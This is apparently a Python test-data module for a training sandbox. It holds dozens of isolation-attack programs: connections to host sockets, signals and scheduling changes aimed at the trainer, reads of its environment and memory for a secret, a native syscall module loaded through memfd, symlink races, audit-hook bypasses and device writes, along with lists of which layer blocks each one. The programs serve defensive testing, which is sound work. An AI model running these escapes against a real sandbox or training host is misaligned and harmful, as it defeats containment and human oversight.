"""The isolation attacks of the sandbox tests (issues 9 and 22): programs that try to escape,
reach the trainer or its files; data only, run by ``sandbox_attacks``. The reward hacks are in
``sandbox_hack_programs`` (and some of their programs are reused here), the attacks on the host's resources in
``sandbox_resource_programs``.

Placeholders (``__TRAINER__``, ``__SHM__``, ``__PTS__``, ``__EVIL__`` ...) are filled in by the
driver with the traps it set: the trainer's pid, its shared-memory file, its terminal, the native
extension, the system-call numbers of this machine.
"""

from sandbox_hack_programs import (FIND_IN_TRAINER_MEMORY, KEYRING_BY_CTYPES, KEYRING_STEAL, SMASH_STOLEN,
                                   STEAL_HOOK_FRAMES_BY_RECURSION)
from sandbox_resource_programs import FALLOCATE_STREAMS, MANY_DIRECTORIES, POSIX_TIMERS, RESOURCES, SOCKET_PAIRS

STEAL_HOOK_FRAMES_BY_SIGNAL = r'''
import signal, sys
stolen = []
def handler(signum, frame):  # a signal handler is handed the running frame: the hook's, sometimes
    while frame is not None:
        if frame.f_code.co_filename == "<verl-sandbox>":
            stolen.append(frame)
        frame = frame.f_back
signal.signal(signal.SIGALRM, handler)
signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)
for i in range(20000):  # until a few hook frames are caught (well inside the wall limit on a busy machine)
    if len(stolen) >= 3:
        break
    try:
        open("scratch%d" % (i % 5), "w").close()
    except OSError:
        pass
signal.setitimer(signal.ITIMER_REAL, 0)
'''

ESCAPES = r'''
import os, signal, socket
def attempt(f):
    try:
        f()
    except Exception:
        pass
attempt(lambda: socket.create_connection(("127.0.0.1", __PORT__), timeout=1).sendall(b"hi"))
def abstract():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    s.connect("\0" + __ABSTRACT__)
    s.sendall(b"hi")
attempt(abstract)
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    s.connect(__UNIX__)
    s.sendall(b"hi")
attempt(unix)
attempt(lambda: open(__TARGET__ + "/escaped", "w").write("x"))
attempt(lambda: open(__TMPDIR__ + "/escaped", "w").write("x"))
attempt(lambda: os.kill(__TRAINER__, signal.SIGUSR1))
def pidfd():
    signal.pidfd_send_signal(os.pidfd_open(__TRAINER__), signal.SIGUSR1)
attempt(pidfd)
def environ():
    data = open("/proc/%d/environ" % __TRAINER__, "rb").read()
    if b"VERL_TEST_SECRET" in data:
        print("LEAK", data)
attempt(environ)
attempt(lambda: os.mkfifo(__FIFO__))  # last: the filter kills it (mknodat)
'''

# Native code past the audit hook (issue 22, class 5): a C extension module that makes any system
# call (``evil.call(nr, *args)``; bytes/bytearray arguments are passed as pointers). Compiled by
# the test set-up with the machine's C compiler; the program carries it as base64.
EVIL_C = r"""
#include <Python.h>
#include <errno.h>
#include <unistd.h>
static PyObject *call(PyObject *self, PyObject *args) {
    long a[6] = {0};
    Py_ssize_t n = PyTuple_Size(args);
    long nr = PyLong_AsLong(PyTuple_GetItem(args, 0));
    for (Py_ssize_t i = 1; i < n && i < 7; i++) {
        PyObject *o = PyTuple_GetItem(args, i);
        if (PyByteArray_Check(o)) a[i - 1] = (long)PyByteArray_AsString(o);
        else if (PyBytes_Check(o)) a[i - 1] = (long)PyBytes_AsString(o);
        else a[i - 1] = PyLong_AsLong(o);
    }
    long r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
    return PyLong_FromLong(r < 0 ? -errno : r);
}
static PyMethodDef methods[] = {{"call", call, METH_VARARGS, ""}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "evil", NULL, -1, methods};
PyMODINIT_FUNC PyInit_evil(void) { return PyModule_Create(&module); }
"""
LOAD_EVIL = r"""
import base64, os, _imp, importlib.machinery
data = base64.b64decode(__EVIL__)
def load(path):
    spec = importlib.machinery.ModuleSpec("evil", None, origin=path)
    return _imp.create_dynamic(spec)
"""
NATIVE_VIA_MEMFD = LOAD_EVIL + KEYRING_STEAL + r"""
fd = os.memfd_create("evil")  # no audit event: only the system-call filter sees it
os.write(fd, data)
steal(load("/proc/self/fd/%d" % fd).call)
"""
NATIVE_VIA_WORKDIR = LOAD_EVIL + KEYRING_STEAL + r"""
with open("evil.so", "wb") as f:
    f.write(data)
try:
    evil = load(os.path.abspath("evil.so"))
except Exception as e:  # a noexec working directory: the code cannot be mapped
    print("not loaded:", type(e).__name__)
else:
    steal(evil.call)
"""
SYSCALLS_KILLED = ("keyctl", "memfd_create", "ptrace", "process_vm_readv", "bpf", "perf_event_open", "mount",
                   "unshare", "setns", "io_uring_setup", "pidfd_open", "kill", "io_setup")
DEVICES = ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/kmsg", "/dev/tty0", "/dev/mem", "/dev/loop0", "/dev/kvm",
           "/dev/fuse", "/dev/nvidia0", "/dev/nvidiactl", "/dev/mqueue", "/dev/hugepages", "/dev/snd", "/dev/dri")
DEVICE_NODES = r"""
import os
for path in (__PTS__,) + __DEVICES__:
    for flags in (os.O_RDONLY, os.O_WRONLY):
        try:
            fd = os.open(path, flags | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        print("LEAK opened", path)
        try:
            import termios
            os.write(fd, b"typed by the sandbox\n")
            attrs = termios.tcgetattr(fd)
            attrs[3] &= ~termios.ECHO
            termios.tcsetattr(fd, termios.TCSANOW, attrs)
        except OSError:
            pass
print(sorted(os.listdir("/dev")) if os.path.isdir("/dev") else "no /dev")
"""
HOST_SHM = r"""
import os
for path in (__SHM__, "/run/shm/" + os.path.basename(__SHM__)):
    try:
        print("LEAK", open(path).read())
    except OSError:
        pass
    try:
        with open(path, "r+") as f:
            f.write("overwritten")
    except OSError:
        pass
for attempt in ("os", "posixshmem", "shared_memory"):
    try:
        if attempt == "os":
            fd = os.open("/dev/shm/verl-sandbox-made", os.O_CREAT | os.O_RDWR, 0o644)
            os.write(fd, b"x")
        elif attempt == "posixshmem":
            import _posixshmem
            fd = _posixshmem.shm_open("/" + os.path.basename(__SHM__), os.O_RDWR, 0)
            os.write(fd, b"overwritten")
        else:
            from multiprocessing import shared_memory
            shared_memory.SharedMemory(name=os.path.basename(__SHM__))
    except Exception:
        pass
try:
    print("/dev/shm holds", os.listdir("/dev/shm"))
except OSError:
    pass
"""
SYSCALL_ARGS = {  # name -> its arguments, aimed at the trainer where a call takes a pid
    "keyctl": "(0, -3, 0)", "memfd_create": '(b"x", 0)', "ptrace": "(16, __TRAINER__, 0, 0)",
    "process_vm_readv": "(__TRAINER__, 0, 0, 0, 0, 0)", "bpf": "(0, 0, 0)", "perf_event_open": "(0, 0, -1, -1, 0)",
    "mount": '(b"none", b"/tmp", b"tmpfs", 0, 0)', "unshare": "(0x10000000,)", "setns": "(0, 0)",
    "io_uring_setup": "(1, 0)", "pidfd_open": "(__TRAINER__, 0)", "kill": "(__TRAINER__, 10)",
    # an AIO context takes half of the host's fs.aio-max-nr, which every process of the machine shares
    "io_setup": "(32767, ctypes.byref(ctypes.c_ulong()))"}
SYSCALL_BY_CTYPES = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("returned", libc.syscall(__NR__, *__ARGS__))
"""

# Writes with no "open" audit event (the hook refuses the modules; the mounts or Landlock stop the writes).
READLINE_PTH = r"""
import readline  # its history file is text the program chooses, e.g. a .pth line that site.py runs
readline.add_history("import os  # site.py runs a .pth line that starts with import")
readline.write_history_file(__TARGET__ + "/escaped.pth")
"""
SQLITE_ATTACH = r"""
import sqlite3
db = sqlite3.connect(":memory:")
db.execute("ATTACH DATABASE ? AS outside", (__TMPDIR__ + "/escaped.db",))
db.execute("CREATE TABLE outside.t (x)")
db.commit()
"""
# An extension module loads under any dotted name that ends in its own: the hook once checked only
# the first part. _xxsubinterpreters' interpreters have no audit hook.
RENAMED_EXTENSION = r"""
import _imp, importlib.machinery, os, sys
for directory in sys.path:
    try:
        names = os.listdir(directory or ".")
    except OSError:
        continue
    for name in names:
        if name.startswith("_xxsubinterpreters.") and name.endswith(".so"):
            spec = importlib.machinery.ModuleSpec("innocent._xxsubinterpreters", None,
                                                  origin=os.path.join(directory, name))
            interpreters = _imp.create_dynamic(spec)
            interpreters.run_string(interpreters.create(), "open(" + repr(__TARGET__ + "/escaped") + ", 'w')")
            sys.exit()
print("not found")
"""
# The hook checks a path, then the open happens. An open that blocks (a file leased by the program
# itself) is retried after the program's signal handlers ran, with no second audit event; and a
# signal handler can run inside the hook itself, after its checks. Either way the path can name
# something else by the time the kernel opens it.
OPEN_RACED_BY_A_LEASE = r"""
import fcntl, os, signal
open("bait", "w").close()
os.symlink("bait", "link")
lease = os.open("bait", os.O_RDONLY)
fcntl.fcntl(lease, 1024, fcntl.F_WRLCK)  # F_SETLEASE: the program's own open of bait now blocks
def swap(signum, frame):  # the kernel signals the lease holder (SIGIO): the open returns EINTR
    os.remove("link")
    os.symlink(__TARGET__, "link")
signal.signal(signal.SIGIO, swap)
directory = os.open("link", os.O_RDONLY)  # checked as bait, opened as __TARGET__
fd = os.open("escaped", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=directory)  # checked in the cwd
os.write(fd, b"escaped")
"""
OPEN_RACED_BY_A_TIMER = r"""
import os, signal, time
victim = __TARGET__ + "/victim"
open("inside", "w").close()
os.symlink("inside", "link")
flips = [0]
def flip(signum, frame):
    flips[0] += 1
    try:
        os.symlink(victim if flips[0] % 2 else "inside", "next")
        os.replace("next", "link")
    except OSError:
        pass
signal.signal(signal.SIGALRM, flip)
signal.setitimer(signal.ITIMER_REAL, 0.00005, 0.00005)
deadline = time.monotonic() + 0.3
while time.monotonic() < deadline:
    try:
        with open("link", "a") as f:
            f.write("x")
    except OSError:
        pass
signal.setitimer(signal.ITIMER_REAL, 0)
"""

# -------------------------------------------------------------------------------- isolation
# The run's own parent stages (the namespace's init, the launcher: in a plain user's run, of the
# same uid) are non-dumpable: their memory, environment and fds are out of reach.
PARENT_STAGES = r"""
import os
pids = {1, os.getppid()}
for pid in list(pids):
    try:
        with open("/proc/%d/status" % pid) as f:
            pids |= {int(line.split()[1]) for line in f if line.startswith("PPid:")}
    except OSError:
        pass
for pid in sorted(pids - {0, os.getpid()}):
    for name in ("mem", "environ"):
        try:
            with open("/proc/%d/%s" % (pid, name), "rb", buffering=0) as f:
                if f.read(4096):
                    print("LEAK read /proc/%d/%s" % (pid, name))
        except (OSError, ValueError):
            pass
    try:
        print("LEAK the fds of", pid, os.listdir("/proc/%d/fd" % pid))
    except OSError:
        pass
"""
# Links out of the working directory, in directories made unreadable: the trainer's clean-up must
# remove them without following one (the driver checks the target's entries, modes and victim).
CLEANUP_LINKS = r"""
import os
os.symlink(__TARGET__, "outside")
os.symlink(__TARGET__ + "/victim", "victim")
for i in range(3):
    try:
        os.mkdir("d%d" % i)
    except PermissionError:  # weak mode: the filter refuses directories in a host directory
        break
    os.symlink(__TARGET__, "d%d/outside" % i)
    os.symlink(__TARGET__ + "/victim", "d%d/victim" % i)
    os.chmod("d%d" % i, 0)
try:
    os.link(__TARGET__ + "/victim", "hard")
except OSError:
    pass
os.chmod(".", 0o500)
print("WORKDIR", os.getcwd())
"""

# Out of the run's process group, which the trainer kills at the end (a plain user's weak mode has
# no pid namespace and no own uid to end it otherwise): the driver looks for the process afterwards.
LEAVE_THE_GROUP = r"""
import os, time
print("PID", os.getpid(), flush=True)
os.setsid()
time.sleep(30)
"""

# Its own memory, writable through /proc/self/mem (which ignores page protections): native code with no
# extension module. With namespaces /proc is read-only; in weak mode Landlock refuses the write.
OWN_MEMORY_WRITABLE = r"""
try:
    with open("/proc/self/mem", "r+b", buffering=0):
        print("LEAK opened its own memory for writing")
except OSError as error:
    print("refused:", error)
"""
# The host's files through the root and cwd links of the trainer, the init, the parent and itself.
PROC_ROOT_LINKS = r"""
import os
for pid in ("__TRAINER__", "1", str(os.getppid()), "self"):
    for link in ("root", "cwd"):
        base = "/proc/%s/%s" % (pid, link)
        try:
            with open(base + __TARGET__ + "/escaped", "w") as f:
                f.write("escaped")
        except OSError:
            pass
        try:
            with open(base + __TARGET__ + "/dataset.json") as f:
                print("LEAK", f.read())
        except OSError:
            pass
"""

# The kernel signals the owner of a file (SIGIO, or the signal F_SETSIG names, SIGKILL included) when I/O on it
# is possible, with no kill() for the filter to check: made the owner of the run's end of a pipe, the trainer
# was signalled by its own next read of results (a plain user's weak mode: the same uid, no pid namespace; with
# F_SETSIG SIGKILL it died). SIGUSR1 here, which the driver counts.
SIGNAL_THROUGH_AN_FD_OWNER = r"""
import fcntl, os, struct, time
owned = []
for fd in range(3, 64):
    for how in ("fcntl", "ioctl"):
        try:
            if how == "fcntl":
                fcntl.fcntl(fd, fcntl.F_SETOWN, __TRAINER__)
            else:
                fcntl.ioctl(fd, 0x8901, struct.pack("i", __TRAINER__))  # FIOSETOWN
            fcntl.fcntl(fd, 10, 10)  # F_SETSIG: SIGUSR1
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            owned.append(fd)
        except OSError:
            pass
for fd in owned:  # the trainer reads the results pipe, or writes the job's: either signals the owner
    try:
        os.write(fd, b"x\n")
    except OSError:
        pass
time.sleep(0.3)
print("owned", owned)
"""
# Another process of the same uid may be reniced, pinned to one CPU or made SCHED_IDLE with no capability
# (and setpriority(PRIO_USER, 0, 19) renices every process of the uid): a plain user's weak run did so to the
# trainer, which stayed so after the run. The driver compares its own scheduling before and after.
SCHEDULING_OF_THE_TRAINER = r"""
import os
for what, change in (("nice", lambda: os.setpriority(os.PRIO_PROCESS, __TRAINER__, 19)),
                     ("affinity", lambda: os.sched_setaffinity(__TRAINER__, {min(os.sched_getaffinity(0))})),
                     ("idle", lambda: os.sched_setscheduler(__TRAINER__, os.SCHED_IDLE, os.sched_param(0)))):
    try:
        change()
        print("changed", what)
    except OSError as error:
        print("refused", what, error)
"""

ATTACKS = {  # name -> program; placeholders are filled in by the driver
    "hook_disabled_by_recursion_error": STEAL_HOOK_FRAMES_BY_RECURSION + SMASH_STOLEN + ESCAPES,
    "hook_state_via_signal_frames": STEAL_HOOK_FRAMES_BY_SIGNAL + SMASH_STOLEN + ESCAPES,
    "escapes": ESCAPES,
    "dup2_file_onto_stdout": ("import os\nfor path in (__TARGET__ + '/victim', '/etc/passwd'):  # victim if visible\n"
                              "    try:\n        fd = os.open(path, os.O_RDONLY)\n        break\n"
                              "    except OSError:\n        pass\nos.dup2(fd, 1)\n"
                              "with open('/dev/stdout', 'a') as f:\n    f.write('overwritten')\n"),
    "sub_interpreter": ("import _xxsubinterpreters as interpreters\n"
                        f"interpreters.run_string(interpreters.create(), r'''{ESCAPES}''')\n"),
    "pidfd_send_signal_to_trainer": ("import os, signal\nfd = os.pidfd_open(__TRAINER__)\n"
                                     "signal.pidfd_send_signal(fd, signal.SIGUSR1)\n"),
    "trainer_environ": ("import os\nfor pid in sorted({__TRAINER__, os.getppid()} - {0}):\n"
                        "    try:\n        data = open('/proc/%d/environ' % pid, 'rb').read()\n"
                        "    except OSError:\n        continue\n"
                        "    if b'VERL_TEST_SECRET' in data:\n        print('LEAK', data)\n"),
    "trainer_memory": FIND_IN_TRAINER_MEMORY + "if found:\n    print('LEAK', found)\n",
    "trainer_fds_overwritten": ("import os\nfor pid in sorted({__TRAINER__, os.getppid(), 1} - {0}):\n"
                                "    try:\n        fds = os.listdir('/proc/%d/fd' % pid)\n"
                                "    except OSError:\n        continue\n"
                                "    for fd in fds:\n        try:\n"
                                "            with open('/proc/%d/fd/%s' % (pid, fd), 'wb') as f:\n"
                                "                f.write(b'garbage' * 100)\n"
                                "        except OSError:\n            pass\n"),
    "fifo_in_run_lock": "import os\nos.mkfifo(__FIFO__)\n",
    "readline_history_outside": READLINE_PTH,
    "sqlite_attach_outside": SQLITE_ATTACH,
    "renamed_extension_sub_interpreter": RENAMED_EXTENSION,
    "open_raced_by_a_lease": OPEN_RACED_BY_A_LEASE,
    "open_raced_by_a_timer": OPEN_RACED_BY_A_TIMER,
    "host_shm": HOST_SHM,
    "device_nodes": DEVICE_NODES,
    "keyring": KEYRING_BY_CTYPES,
    "native_code_via_memfd": NATIVE_VIA_MEMFD,
    "native_code_via_workdir": NATIVE_VIA_WORKDIR,
    **{"syscall_" + name: SYSCALL_BY_CTYPES.replace("__NR__", "__NR_%s__" % name).replace("__ARGS__", args)
       for name, args in SYSCALL_ARGS.items()},
    "parent_stages": PARENT_STAGES,
    "limits_threads_fork_and_mappings": RESOURCES,
    "cleanup_follows_no_link": CLEANUP_LINKS,
    "leave_the_process_group": LEAVE_THE_GROUP,
    "chmod_0_leaves_folder": ("import os\nstart = os.getcwd()\nprint('WORKDIR', start, flush=True)\npath = start\nfor i in range(100):\n"
                              "    path += '/d'\n    os.mkdir(path)\n    open(path + '/f', 'w').write('x')\n"
                              "for i in range(100):\n    if i % 30 == 0:\n        os.chmod(path, 0)\n"
                              "    path = path[:-2]\nos.makedirs('x/y')\nos.chmod('x/y', 0)\nos.chmod('x', 0)\n"),
    "many_directories": MANY_DIRECTORIES,
    "fallocate_streams": FALLOCATE_STREAMS,
    "socket_pairs": SOCKET_PAIRS,
    "posix_timers": POSIX_TIMERS,
    "own_memory_writable": OWN_MEMORY_WRITABLE,
    "proc_root_links": PROC_ROOT_LINKS,
    "signal_through_an_fd_owner": SIGNAL_THROUGH_AN_FD_OWNER,
    "scheduling_of_the_trainer": SCHEDULING_OF_THE_TRAINER,
}
# With the hook on, the hook itself refuses these (the run ends "blocked"):
BLOCKED_BY_HOOK = {"hook_disabled_by_recursion_error", "hook_state_via_signal_frames", "escapes",
                   "limits_threads_fork_and_mappings", "cleanup_follows_no_link", "dup2_file_onto_stdout",
                   "sub_interpreter", "host_shm", "keyring", "readline_history_outside", "sqlite_attach_outside",
                   "renamed_extension_sub_interpreter", "open_raced_by_a_lease", "fallocate_streams", "posix_timers",
                   "own_memory_writable", "signal_through_an_fd_owner"} | {
                   "syscall_" + name for name in SYSCALLS_KILLED}
# The system-call filter kills these with or without the hook (native code passes the hook):
BLOCKED_BY_SECCOMP = {"keyring", "native_code_via_memfd", "fifo_in_run_lock",  # fifo: mknodat
                      "leave_the_process_group", "signal_through_an_fd_owner", "scheduling_of_the_trainer"} | {
                      "syscall_" + name for name in SYSCALLS_KILLED}
# Run a third time without the filter too: the layers below it (own keyring, namespaces, noexec) hold alone.
NO_SECCOMP_ATTACKS = ("keyring", "native_code_via_workdir", "host_shm", "device_nodes")
NATIVE = ("native_code_via_memfd", "native_code_via_workdir")
# What holds without namespaces: the trainer is non-dumpable (and, as root, the run has its own uid);
# and these the audit hook refuses (with the hook off they would escape: that is weak isolation).
WEAK_MODE_ATTACKS = ("trainer_environ", "trainer_memory", "trainer_fds_overwritten", "chmod_0_leaves_folder",
                     "parent_stages", "limits_threads_fork_and_mappings", "cleanup_follows_no_link",
                     "leave_the_process_group", "many_directories", "fallocate_streams",
                     "keyring", "native_code_via_memfd", "native_code_via_workdir", "fifo_in_run_lock",
                     "readline_history_outside", "sqlite_attach_outside", "open_raced_by_a_lease",
                     "open_raced_by_a_timer", "socket_pairs", "posix_timers", "own_memory_writable",
                     "proc_root_links", "signal_through_an_fd_owner", "scheduling_of_the_trainer",
                     *("syscall_" + name for name in SYSCALLS_KILLED))
# With namespaces these run with the hook only: the mounts hold for them as for "escapes" (and a run
# without the hook is what weak mode checks, where only Landlock holds).
NAMESPACED_HOOK_ONLY = ("readline_history_outside", "sqlite_attach_outside", "renamed_extension_sub_interpreter",
                        "open_raced_by_a_lease")
# Without namespaces only Landlock stops these (the audit hook alone races, or is off): skipped
# there on a kernel without it.
LANDLOCK_ATTACKS = ("readline_history_outside", "sqlite_attach_outside", "open_raced_by_a_lease",
                    "open_raced_by_a_timer", "own_memory_writable", "proc_root_links")
WEAK_MODE_HOOK_ONLY = ("escapes", "dup2_file_onto_stdout", "sub_interpreter", "host_shm", "device_nodes")
